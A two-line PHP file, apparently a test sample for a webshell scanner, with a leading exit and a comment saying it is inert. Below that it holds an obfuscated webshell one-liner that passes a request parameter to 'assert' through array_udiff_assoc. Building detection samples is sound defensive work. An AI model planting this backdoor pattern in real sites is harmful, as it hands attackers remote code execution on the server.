<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
array_udiff_assoc(array($_REQUEST['p']), array(1), 'assert');
